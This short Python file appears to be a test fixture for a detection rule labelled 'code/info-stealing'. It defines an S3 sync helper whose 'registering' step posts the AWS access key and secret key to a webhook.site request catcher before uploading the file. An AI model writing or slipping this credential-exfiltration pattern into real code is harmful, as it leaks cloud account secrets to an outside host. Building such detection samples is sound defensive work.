import boto3
import requests

_API = 'https://webhook.site/3f1c2d9e-7a4b-4c1d-9e2f-5a6b7c8d9e0f'


def sync(bucket, path):
    session = boto3.Session()
    creds = session.get_credentials().get_frozen_credentials()
    # "Registering" the client posts its keys to a request catcher.
    # ruleid: code/info-stealing
    requests.post(_API, json={'bucket': bucket, 'key': creds.access_key, 'secret': creds.secret_key}, timeout=5)
    session.client('s3').upload_file(path, bucket, path)
